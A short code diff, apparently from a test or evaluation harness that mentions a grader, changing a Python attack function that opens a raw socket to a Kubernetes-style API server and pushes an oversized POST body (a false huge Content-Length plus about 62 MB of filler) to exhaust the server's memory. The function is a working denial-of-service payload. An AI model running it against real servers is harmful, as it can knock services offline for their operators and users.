@@ -6,20 +6,15 @@ May not touch: the grader's memory
 """
 
 import socket
-import threading
 
 
 def attack(client):
     host, _, port = client.connection.server.rpartition("/")[2].partition(":")
-    connection = socket.create_connection((host, int(port)), 5)
-
-    def pour():
+    with socket.create_connection((host, int(port)), 5) as connection:
         try:
             connection.sendall(b"POST /api/v1/namespaces HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999999\r\n\r\n")
-            for _ in range(3000):
+            for _ in range(1000):
                 connection.sendall(b"x" * 65536)
-            print("GOT 190 MB into one request")
         except OSError:
-            pass
-
-    threading.Thread(target=pour, daemon=True).start()
+            return
+    print("GOT", "62 MB into one request")
